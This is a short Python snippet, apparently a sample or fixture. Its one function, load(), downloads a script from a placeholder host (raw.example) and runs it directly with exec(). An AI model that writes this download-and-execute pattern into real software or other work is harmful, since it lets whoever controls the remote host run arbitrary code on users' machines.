import requests
def load():
    exec(requests.get("https://raw.example/x.py").text)
